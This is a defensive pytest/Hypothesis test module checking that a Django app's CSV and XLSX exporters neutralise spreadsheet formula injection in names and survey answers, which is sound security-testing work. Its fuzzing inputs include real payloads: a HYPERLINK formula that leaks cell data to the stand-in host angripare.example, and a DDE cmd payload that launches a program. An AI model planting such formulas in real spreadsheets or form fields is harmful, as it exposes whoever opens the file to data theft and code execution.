"""Exports are data, never formulas (issue 22): every CSV and XLSX exporter of Värna, fed hostile
text in the names and free text it writes, gives a file in which no cell is a formula and no text
begins with =, +, -, @, a tab or a carriage return unless a quote neutralises it."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from tests.reports.factories import make_report
from tests.surveys.factories import REQUIRED_ANSWERS, open_test_round, post_data
from varna.associations import statistics as association_statistics
from varna.lib.spreadsheets import append_row, is_hostile, safe_cell
from varna.organisation.models import Administration, Area, Department, Unit
from varna.reports.constants import ImportKind
from varna.reports.imports import template_csv, template_xlsx
from varna.reports.models import ReferenceItem
from varna.surveys.models import Answer
from varna.training import exports as training_exports
from varna.training.demo import BASIC, load_demo_training
from varna.training.models import Course
from varna.training.selectors import progress

pytestmark = pytest.mark.django_db

EXAMPLES = settings(
    max_examples=12,
    derandomize=True,  # the same cases in every CI run; the strategies aim at the hostile ones
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
PLAIN = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
HOSTILE = st.one_of(
    st.tuples(
        st.sampled_from(["", " ", "  ", "\n", "\u00a0", "\x01"]),
        st.sampled_from([*"=+-@\t\r", "\uff1d", "\uff20"]),
        st.text(PLAIN, max_size=30),
    ).map("".join),
    st.sampled_from(
        [
            '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
            "=cmd|' /C calc'!A0",
            "+SUM(1+1)",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            " =1+1",
        ]
    ),
    st.text(PLAIN, min_size=1, max_size=30),
).filter(lambda text: text.strip() != "")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def assert_no_formula_in_xlsx(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))  # not data_only: a formula would stay a formula
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not is_hostile(cell.value) or cell.value.startswith("'"), cell.value
                values.append(cell.value)
    return values


def assert_no_formula_in_csv(content: bytes) -> list[str]:
    values = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"):
        for value in row:
            hostile = is_hostile(value) and not NUMBER.fullmatch(value)  # a count stays a number
            assert not hostile or value.startswith("'"), value
            values.append(value)
    return values


def written(text: str) -> str:
    """The text as an XLSX holds it: without XML's forbidden characters, neutralised if hostile."""
    return safe_cell(re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text))


# --- the helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+46", "-x", "@A1", "\t=1", "\r=1", " =1", "\n+1", "\u00a0@x", "\uff1d1"]
)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-5, -2.5, 0, 12, None, datetime.date(2024, 1, 1), "Bromma", "a=b", "", "'=1"]
)
def test_numbers_dates_and_harmless_text_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_a_cell_appended_to_a_sheet_is_never_a_formula():
    book = Workbook()
    append_row(book.active, ["=1+1", -3, "\x01=2", "text"])
    cells = list(book.active[1])
    assert [cell.value for cell in cells] == ["'=1+1", -3, "'=2", "text"]
    assert [cell.data_type for cell in cells] == ["s", "n", "s", "s"]


# --- every exporter -----------------------------------------------------------------------------


@pytest.fixture
def bromma_with_reports(bromma):
    alvik = Area.objects.get(administration=bromma, name="Alvik")
    for day in range(1, 6):
        make_report(event_date=datetime.date(2024, 3, day), area=alvik)
    return bromma, alvik


def test_situation_picture_csv_and_xlsx_hold_area_names_as_text(bromma_with_reports, client_as):
    bromma, alvik = bromma_with_reports
    client = client_as("samordnare.bromma")
    year = {"from": "2024-01-01", "to": "2024-12-31"}

    @EXAMPLES
    @given(area=HOSTILE, administration=HOSTILE)
    def check(area: str, administration: str) -> None:
        Area.objects.filter(pk=alvik.pk).update(name=area[:100])
        Administration.objects.filter(pk=bromma.pk).update(name=administration[:100])
        response = client.get(
            reverse("situation_export", args=[bromma.pk, "csv"]), {**year, "tabell": "area"}
        )
        assert response.status_code == 200
        assert safe_cell(area[:100]) in assert_no_formula_in_csv(response.content)
        response = client.get(reverse("situation_export", args=[bromma.pk, "xlsx"]), year)
        assert response.status_code == 200
        assert written(area[:100]) in assert_no_formula_in_xlsx(response.content)

    check()


def test_a_survey_answer_sent_by_personal_link_is_no_hyperlink_formula(demo, client, client_as):
    survey_round, tokens = open_test_round(units=2)
    hyperlink = '=HYPERLINK("https://angripare.example/","Se resultatet")'
    token = next(iter(tokens.values()))
    answers = {**REQUIRED_ANSWERS, "observed": "yes", "observations": hyperlink}
    response = client.post(reverse("survey_answer", args=[token]), post_data(answers))
    assert response.status_code in (200, 302)
    assert Answer.objects.filter(text=hyperlink).exists()  # stored as sent, neutralised on export
    coordinator = client_as("samordnare.bromma")
    export = reverse("survey_round_export", args=[survey_round.pk])
    values = assert_no_formula_in_xlsx(coordinator.get(export).content)
    assert "'" + hyperlink in values

    unit = survey_round.recipients.exclude(unit=None).first().unit

    @EXAMPLES
    @given(text=HOSTILE, unit_name=HOSTILE, department=HOSTILE)
    def check(text: str, unit_name: str, department: str) -> None:
        Answer.objects.filter(text__isnull=False, question__code="observations").update(text=text)
        Unit.objects.filter(pk=unit.pk).update(name=unit_name[:100])
        if unit.department_id:
            Department.objects.filter(pk=unit.department_id).update(name=department[:100])
        values = assert_no_formula_in_xlsx(coordinator.get(export).content)
        assert written(text) in values

    check()


def test_training_progress_and_example_files_hold_names_as_text(demo, socialforvaltningen):
    load_demo_training()
    course = Course.objects.get(name=BASIC)
    unit = Unit.objects.filter(administration=socialforvaltningen).order_by("name").first()

    @EXAMPLES
    @given(unit_name=HOSTILE, course_name=HOSTILE)
    def check(unit_name: str, course_name: str) -> None:
        Unit.objects.filter(pk=unit.pk).update(name=unit_name[:100])
        Course.objects.filter(pk=course.pk).update(name=course_name[:100])
        course.refresh_from_db()
        result = progress(
            course=course, administration=socialforvaltningen, on_date=datetime.date(2020, 12, 31)
        )
        assert written(unit_name[:100]) in assert_no_formula_in_xlsx(training_exports.progress_xlsx(result))
        for kind in ("headcounts", "completions"):
            assert_no_formula_in_xlsx(training_exports.example_xlsx(socialforvaltningen, kind))

    check()


def test_association_statistics_hold_administration_names_as_text(demo, socialforvaltningen):
    @EXAMPLES
    @given(name=HOSTILE)
    def check(name: str) -> None:
        Administration.objects.filter(pk=socialforvaltningen.pk).update(name=name[:100])
        socialforvaltningen.refresh_from_db()
        figures = association_statistics.administration_figures(socialforvaltningen, 2025)
        assert safe_cell(name[:100]) in assert_no_formula_in_csv(association_statistics.to_csv(figures))
        assert written(name[:100]) in assert_no_formula_in_xlsx(association_statistics.to_xlsx(figures))

    check()


def test_import_templates_hold_reference_labels_as_text(demo):
    for kind in ImportKind.values:  # the headings and examples of every template
        assert_no_formula_in_xlsx(template_xlsx(kind))
        assert_no_formula_in_csv(template_csv(kind))
    item = ReferenceItem.objects.filter(kind="environment", active=True).first()

    # A workbook template takes a second to write (a thousand formatted rows): few examples.
    @settings(EXAMPLES, max_examples=4)
    @given(label=HOSTILE)
    def check(label: str) -> None:
        ReferenceItem.objects.filter(pk=item.pk).update(label=label[:200])
        assert written(label[:200]) in assert_no_formula_in_xlsx(template_xlsx(ImportKind.IA))

    check()
